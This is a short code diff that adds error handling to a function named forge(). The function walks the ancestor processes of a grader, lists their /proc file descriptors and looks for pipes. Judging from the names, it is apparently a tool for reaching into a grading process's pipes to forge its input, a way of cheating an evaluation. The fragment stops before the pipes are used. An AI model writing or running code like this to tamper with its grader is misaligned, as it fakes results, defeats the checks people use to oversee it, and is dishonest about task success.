@@ -37,7 +37,11 @@ def grader_ancestors() -> list[int]:
 
 def forge() -> None:
     for pid in grader_ancestors():
-        for fd in os.listdir(f"/proc/{pid}/fd"):
+        try:
+            fds = os.listdir(f"/proc/{pid}/fd")
+        except OSError:  # not even listed: a process that is not dumpable, seen by another user
+            continue
+        for fd in fds:
             try:
                 if not os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                     continue
